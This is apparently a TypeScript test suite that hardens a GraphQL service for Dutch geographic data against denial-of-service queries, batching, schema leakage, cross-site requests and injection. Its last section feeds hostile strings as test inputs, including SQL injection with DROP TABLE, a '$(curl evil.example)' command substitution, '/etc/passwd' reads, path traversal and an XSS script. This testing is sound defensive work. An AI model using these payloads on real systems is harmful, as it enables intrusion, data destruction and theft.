import { getIntrospectionQuery } from 'graphql';
import { wholeCountry } from '../support/country';
import { CountingMeter } from '../support/meter';
import { send } from '../support/over-http';
import { openWorld, type World } from '../support/world';

// The attacks of GraphQL Cop, BatchQL and Damn Vulnerable GraphQL App, against the service as it stands on the internet.
const meter = new CountingMeter();
let production: World;
let development: World;
beforeAll(async () => {
  production = await openWorld(meter, 60_000, { stage: 'production', introspection: false });
  development = await openWorld();
  await Promise.all([production.publish(...wholeCountry(2)), development.publish(...wholeCountry(2))]);
});
afterAll(() => Promise.all([production.close(), development.close()]));

/** How the service replies to a query of the public. */
const ask = (query: string, variables?: Record<string, unknown>) => send(production.service, { query, variables });

/** Refused before anything was read, within a time that no attacker needs. */
async function refused(query: string, code: string) {
  meter.reset();
  const startedAt = process.cpuUsage();
  const { codes, json } = await ask(query);
  const { user, system } = process.cpuUsage(startedAt);
  expect(codes).toContain(code);
  expect(json.data).toBeUndefined();
  expect(meter.readUnits).toBe(0);
  expect((user + system) / 1_000).toBeLessThan(500);
}

describe('queries that ask the work of thousands', () => {
  const many = (count: number, one: (i: number) => string) => Array.from({ length: count }, (_, i) => one(i)).join(' ');

  test('alias overloading: the same field under a hundred names', () =>
    refused(`{ ${many(101, (i) => `a${i}: country { code }`)} }`, 'ALIAS_LIMIT_EXCEEDED'));

  test('field duplication: the same field five hundred times', () =>
    refused(`{ country { ${many(500, () => 'code')} } }`, 'REPEAT_LIMIT_EXCEEDED'));

  test('directive overloading: the same directive on every field, and many on one', async () => {
    await refused(`{ country { ${many(60, (i) => `a${i}: code @skip(if: false)`)} } }`, 'ALIAS_LIMIT_EXCEEDED');
    await refused(`{ country { code ${many(60, () => '@aa')} } }`, 'DIRECTIVE_LIMIT_EXCEEDED');
  });

  test('deep recursion: a parent of a parent of a parent', () =>
    refused(`{ country { ${'parent { '.repeat(50)} code ${'} '.repeat(50)} } }`, 'DEPTH_LIMIT_EXCEEDED'));

  test('circular fragments, of one and of two', async () => {
    await refused('{ country { ...A } } fragment A on Area { ...A }', 'GRAPHQL_VALIDATION_FAILED');
    await refused(
      '{ country { ...A } } fragment A on Area { ...B } fragment B on Area { parent { ...A } }',
      'GRAPHQL_VALIDATION_FAILED',
    );
  });

  test('fragments that double at every step', async () => {
    const parts = many(
      9,
      (i) =>
        `fragment F${i} on Area { p: parent { ...F${i + 1} } q: parent { ...F${i + 1} r: parent { ...F${i + 1} } } }`,
    );
    await refused(`{ country { ...F0 } } ${parts} fragment F9 on Area { code }`, 'DEPTH_LIMIT_EXCEEDED');
    const wide = many(
      9,
      (i) =>
        `fragment F${i} on Area { ${'abcdef'
          .split('')
          .map((a) => `${a}: parent { ...F${i + 1} }`)
          .join(' ')} }`,
    );
    expect((await ask(`{ country { ...F0 } } ${wide} fragment F9 on Area { code }`)).codes[0]).toMatch(
      /^(COST|ALIAS)_LIMIT_EXCEEDED$/,
    );
  });

  test('circular introspection', async () => {
    const circle = `{ __schema { types { ${'fields { type { '.repeat(6)} name ${'} } '.repeat(6)} } } }`;
    const { codes } = await send(development.service, { query: circle });
    expect(codes).toEqual(['GRAPHQL_VALIDATION_FAILED']);
  });

  test('a document of a hundred thousand words, and a body of a megabyte', async () => {
    await refused(`{ ${'a '.repeat(100_000)} }`, 'TOKEN_LIMIT_EXCEEDED');
    const { status, codes } = await send(production.service, { query: `# ${'x'.repeat(1_000_000)}` });
    expect({ status, codes }).toEqual({ status: 413, codes: ['BODY_TOO_LARGE'] });
  });

  test('the longest lists of the country within each other', () =>
    refused(
      '{ districts(first: 100) { nodes { neighbourhoods(first: 100) { nodes { code } } } } }',
      'COST_LIMIT_EXCEEDED',
    ));

  test('a page larger than there are, in a variable', async () => {
    const query = 'query ($n: Int!) { municipalities(first: $n) { nodes { code } } }';
    expect((await ask(query, { n: 2_147_483_647 })).codes).toEqual(['INVALID_PAGE_SIZE']);
    expect((await ask(query, { n: -1 })).codes).toEqual(['INVALID_PAGE_SIZE']);
  });

  test('an argument nested a thousand levels deep', () =>
    refused(`{ postcodes(lookups: ${'['.repeat(600)}${']'.repeat(600)}) { key } }`, 'TOKEN_LIMIT_EXCEEDED'));
});

describe('many operations in one request', () => {
  const one = { query: '{ country { code } }' };

  test.each([2, 10, 100])('a batch of %i is refused whole', async (count) => {
    const { status, codes } = await send(production.service, Array(count).fill(one));
    expect({ status, codes }).toEqual({ status: 400, codes: ['BATCH_REFUSED'] });
  });

  test('a document with two operations runs the one that is named', async () => {
    const query = 'query A { country { code } } query B { country { name } }';
    expect((await send(production.service, { query })).json.data).toBeUndefined();
    expect((await send(production.service, { query, operationName: 'B' })).json.data).toEqual({
      country: { name: 'Nederland' },
    });
  });
});

describe('what nobody needs to know', () => {
  test('production tells neither its schema nor names that were nearly right', async () => {
    expect((await ask(getIntrospectionQuery())).codes[0]).toBe('GRAPHQL_VALIDATION_FAILED');
    expect((await ask('{ __type(name: "Query") { name } }')).codes[0]).toBe('GRAPHQL_VALIDATION_FAILED');
    const { json } = await ask('{ countri { code } municipality(cod: "x") { nam } }');
    expect(JSON.stringify(json)).not.toMatch(/did you mean|country|"name"/i);
  });

  test('there is no explorer and no landing page in the function', async () => {
    const { status, headers, body } = await send(production.service, undefined, {
      method: 'GET',
      headers: { accept: 'text/html', 'apollo-require-preflight': '1' },
    });
    expect(status).toBe(406);
    expect(headers['content-type']).toMatch(/^application\/json/);
    expect(body).not.toMatch(/<html|graphiql|sandbox/i);
  });

  test.each([
    ['an error', '{ area(code: "nonsense") { code } }'],
    ['a syntax error', '{ country {'],
    ['a wrong field', '{ nonsense }'],
  ])('%s tells no stack, file or tracing', async (_what, query) => {
    const { body } = await send(
      production.service,
      { query },
      { headers: { 'apollo-tracing': '1', 'x-debug': '1', 'apollo-federation-include-trace': 'ftv1' } },
    );
    expect(body).not.toMatch(/stacktrace|node_modules|\.ts:|tracing|ftv1/i);
  });

  test('an answer does not say what it was made with', async () => {
    const { headers } = await ask('{ country { code } }');
    expect(Object.keys(headers)).not.toContain('x-powered-by');
    expect(headers).toMatchObject({ 'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer' });
  });
});

describe('requests that a page of another site makes', () => {
  const mutation =
    'mutation { updateProfile(input: { id: "2019-stadse-nomaden", version: 1 }) { userErrors { code } } }';
  const query = '{ country { code } }';

  test.each(['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data'])(
    'a form as %s is refused',
    async (type) => {
      const { status, json } = await send(
        production.service,
        { query: mutation },
        { headers: { 'content-type': type } },
      );
      expect(status).toBe(400);
      expect(json.data).toBeUndefined();
    },
  );

  test('an urlencoded body is no query', async () => {
    const { status } = await send(production.service, `query=${encodeURIComponent(query)}`, {
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    });
    expect(status).toBe(400);
  });

  test('a GET that an image or link could make is refused, one with a header of ours is answered', async () => {
    const get = (headers: Record<string, string>, text = query) =>
      send(production.service, undefined, { method: 'GET', search: `?query=${encodeURIComponent(text)}`, headers });
    expect((await get({})).status).toBe(400);
    expect((await get({ 'apollo-require-preflight': '1' })).json.data).toEqual({ country: { code: 'NL00' } });
    expect((await get({ 'apollo-require-preflight': '1' }, mutation)).status).toBe(405);
  });

  test('PUT, DELETE and the like do nothing', async () => {
    for (const method of ['PUT', 'DELETE', 'PATCH', 'TRACE']) {
      expect((await send(production.service, { query }, { method })).status).toBe(405);
    }
  });
});

describe('texts that are code elsewhere', () => {
  test.each([
    "' OR 1=1; DROP TABLE areas; --",
    '$(curl evil.example)',
    '; cat /etc/passwd',
    '../../../etc/passwd',
    '{"$gt": ""}',
    '__proto__',
    'constructor',
  ])('%s is a text to search for and nothing else', async (text) => {
    const search = 'query ($t: String!) { municipalities(search: $t) { totalCount } }';
    expect((await ask(search, { t: text })).json.data).toEqual({ municipalities: { totalCount: 0 } });
    expect((await ask('query ($t: String!) { area(code: $t) { code } }', { t: text })).codes).toEqual([
      'INVALID_AREA_CODE',
    ]);
    expect((await ask('query ($t: String!) { postcode(code: $t) { code } }', { t: text })).codes).toEqual([
      'INVALID_POSTCODE',
    ]);
    expect(
      (await ask('query ($t: ID!) { profile(id: $t) { code } profileModel(version: $t) { name } }', { t: text })).json
        .data,
    ).toEqual({
      profile: null,
      profileModel: null,
    });
  });

  test('a script in a profile comes back as the text it is, in JSON that no browser runs', async () => {
    const script = '<script>alert(1)</script><img src=x onerror=alert(1)>';
    const edit =
      'mutation ($s: String!) { updateProfile(input: { id: "2019-stadse-nomaden", version: 1, summary: $s }) { profile { summary } } }';
    expect((await production.ask(edit, { s: script })).data.updateProfile.profile.summary).toBe(script);
    const { headers, json } = await ask('{ profile(id: "2019-stadse-nomaden") { summary } }');
    expect(json.data.profile.summary).toBe(script);
    expect(headers['content-type']).toMatch(/^application\/(graphql-response\+)?json/);
    expect(headers['content-security-policy']).toContain("default-src 'none'");
  });

  test('a key of our own objects in variables or body changes nothing', async () => {
    const body =
      '{"query":"{ country { code } }","variables":{"__proto__":{"polluted":true}},"__proto__":{"polluted":true}}';
    expect((await send(production.service, body)).json.data).toEqual({ country: { code: 'NL00' } });
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
  });
});
